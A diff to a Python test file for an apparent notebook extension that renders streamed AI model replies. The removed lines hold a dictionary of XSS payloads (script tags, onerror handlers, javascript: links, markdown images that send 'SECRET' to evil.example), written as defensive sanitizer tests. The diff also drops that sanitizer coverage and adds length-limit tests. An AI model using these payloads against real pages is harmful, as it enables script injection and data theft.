@@ -1,7 +1,7 @@
 import time
 import pytest
 from boopiter_ext.stream import Reply, pump
-from boopiter_ext.render import (safe_markdown, close_fences, reply_bundle, reply_markdown, reply_plain, details_html)
+from boopiter_ext.render import reply_bundle, reply_markdown, reply_plain, details_html
 
 
 def feed(chunks, thinking=()):
@@ -100,24 +100,11 @@ def test_details_name_the_reasoning_model_effort_and_images():
     assert 'Reasoning:' not in details_html(r, dict(name='Ollama', endpoint='x'))
 
 
-def test_latex_delimiters_become_dollars_outside_code():
-    text = 'Area \\(\\pi r^2\\) and\n\\[\nE = mc^2\n\\]\ncosts $5; `\\(x\\)`\n\n```python\nprint("\\(x\\)")\n```\n'
-    out = safe_markdown(text)
-    assert 'Area $\\pi r^2$ and\n$$\nE = mc^2\n$$' in out and '\\$5' in out
-    assert '`\\(x\\)`' in out and 'print("\\(x\\)")' in out     # code is left as written
-
-
-@pytest.mark.parametrize('prose', [r'Press \[Enter\] to go on', r'- \[ \] todo', r'C:\\[x] and \] back',
-                                   r'\\(not math\\)'])
-def test_escaped_brackets_in_prose_are_not_math(prose):
-    assert '$' not in safe_markdown(prose)
-
-
 def test_code_blocks_keep_their_language_tags():
     text = '```python\nx = 1\n```\n\n~~~bash\nls\n~~~\n\n```\nplain\n```\n'
     r = feed([text])
     md = reply_markdown(r)
-    assert '```python\nx = 1\n```' in md and '~~~bash\nls\n~~~' in md and reply_plain(r) == text
+    assert '```python\nx = 1\n```' in md and '```bash\nls\n```' in md and reply_plain(r) == text   # tildes re-fenced
 
 
 def test_pump_throttles_updates_and_counts_tokens():
@@ -156,59 +143,6 @@ def test_same_mime_types_while_streaming_and_at_the_end():
     assert final[1]['boopiter']['status'] == 'done' and streaming[1]['boopiter']['status'] == 'streaming'
 
 
-ATTACKS = {
-    'raw tags': 'a <script>x()</script> <img src=x onerror=y()> <svg/onload=z()>',
-    'escaped backtick opens no code span': 'Note: \\`<img src=x onerror=alert(1)>`',
-    'code span across a blank line': 'a ` b\n\n<img src=x onerror=alert(2)>\n\nc `',
-    'fence info with a backtick': '``` x`\n<img src=x onerror=alert(3)>\n```',
-    'fence in a list item, then a lazy line': '- item\n  ```\n<img src=x onerror=alert(4)>\n  ```',
-    'html block': '<details><summary>s</summary>\n\n<script>x()</script>\n</details>',
-    'comment': '<!-- hidden --> text',
-    'reference image': '![leak][r]\n\n[r]: https://evil.example/p.png?q=SECRET',
-    'image with a quoted title': "![leak](https://evil.example/p.png?q=SECRET 'x')",
-    'image with escaped slashes': '![leak](https:\\/\\/evil.example/p.png?q=SECRET)',
-    'image with an entity colon': '![leak](https&#58;//evil.example/p.png?q=SECRET)',
-    'protocol-relative image': '![x](//evil.example/a.png)',
-    'reference javascript link': '[click][j]\n\n[j]: javascript:alert(5)',
-    'entity javascript link': '[click](javascript&#58;alert(6))',
-    'mixed-case javascript link': '[x](JaVaScRiPt:alert(1))',
-    'autolink javascript': '<javascript:alert(1)>',
-    'table cell': '| a | b |\n|---|---|\n| <img src=x onerror=1> | `<b>` |',
-    'tag whose attribute holds backticks': '<img src="`" onerror=alert(1) x="`">',
-    'code span beside a tag': '`<b>` <img src=x onerror=1> `<i>`',
-    'unclosed code span': '`unclosed <img src=x onerror=1>',
-}
-
-
-@pytest.mark.parametrize('name', ATTACKS)
-def test_untrusted_markdown_is_defused(name):
-    from markdown_it import MarkdownIt
-    md = MarkdownIt('commonmark', {'html': True}).enable('table')
-    md.validateLink = lambda url: True
-    tokens = md.parse(safe_markdown(ATTACKS[name]))
-    flat = [c for t in tokens for c in [t, *(t.children or [])]]
-    assert not [t.content for t in flat if t.type in ('html_block', 'html_inline')]
-    assert not [t.attrGet('src') for t in flat if t.type == 'image' and 'evil' in (t.attrGet('src') or '')]
-    assert not [t.attrGet('href') for t in flat if t.type == 'link_open' and 'script' in t.attrGet('href').lower()]
-
-
-def test_defusing_keeps_code_and_ordinary_markdown():
-    text = ('Use `a < b` and **bold**, a [link](https://example.com) and ![plot](plot.png).\n\n'
-            '```html\n<b>kept exactly</b>\n```\n\n1. step\n\n   ```python\n   if a < b: pass\n   ```\n')
-    out = safe_markdown(text)
-    assert '```html\n<b>kept exactly</b>\n```' in out and '   if a < b: pass' in out
-    assert '[link](https://example.com)' in out and '![plot](plot.png)' in out and '`a < b`' in out
-    assert safe_markdown('see <https://example.com>') == 'see https://example.com'
-    assert safe_markdown('`List<String>` in a list:\n- `a<b` and `` `<i>` ``') == '`List<String>` in a list:\n- `a<b` and `` `<i>` ``'
-    assert safe_markdown('It costs $5, not $10; $x^2$ is math') == 'It costs \\$5, not \\$10; $x^2$ is math'
-
-
-def test_close_fences_only_when_open():
-    assert close_fences('```\ncode') == '```\ncode\n```'
-    assert close_fences('```\ncode\n```\n') == '```\ncode\n```\n'
-    assert close_fences('~~~~py\nx\n') == '~~~~py\nx\n~~~~'
-
-
 def test_details_escape_model_names_and_ledger_labels():
     r = Reply('<b>evil</b>')
     r.finish('done')
@@ -216,3 +150,33 @@ def test_details_escape_model_names_and_ledger_labels():
                         dict(items=[dict(label='<i>x</i>', tokens=3, status='sent')], tokens=3, window=4096,
                              clipped=0, dropped=0))
     assert '<b>evil' not in html and '&lt;b&gt;evil' in html and '&lt;i&gt;x' in html
+
+
+def test_pump_stops_a_reply_at_its_bound_and_keeps_exactly_that_much():
+    from boopiter_ext.errors import ReplyTooLong
+    def endless():
+        while True: yield 'content', 'abcdefghij'
+    r = Reply('m')
+    with pytest.raises(ReplyTooLong, match='1,005 characters'):
+        pump(endless(), r, limit=1005)
+    assert r.answer == 'abcdefghij' * 100 + 'abcde' and r.size == 1005
+    r.finish('too long')
+    assert reply_plain(r).endswith('*(too long: stopped at `max_reply` characters)*')
+    assert 'Status: too long' in reply_markdown(r)
+
+
+def test_the_bound_cuts_what_grew_last_reasoning_included():
+    from boopiter_ext.errors import ReplyTooLong
+    r = Reply('m')
+    with pytest.raises(ReplyTooLong):
+        pump(iter([('content', 'answer '), ('thinking', 'x' * 50), ('content', 'y' * 100)]), r, limit=100)
+    assert r.reasoning == 'x' * 50 and r.answer == 'answer ' + 'y' * 43 and r.size == 100
+    with pytest.raises(ReplyTooLong):   # a `<think>` section counts too
+        pump(iter([('content', '<think>' + 'z' * 30)]), Reply('m'), limit=20)
+
+
+def test_updates_thin_out_as_a_reply_grows():
+    seen = []
+    big = 'w' * 100_000
+    pump(iter([('content', big)] * 40), Reply('m'), update=lambda r: seen.append(r.size), interval=0.0)
+    assert seen[0] == 100_000 and len(seen) < 40   # each update waits longer than the last: linear in total
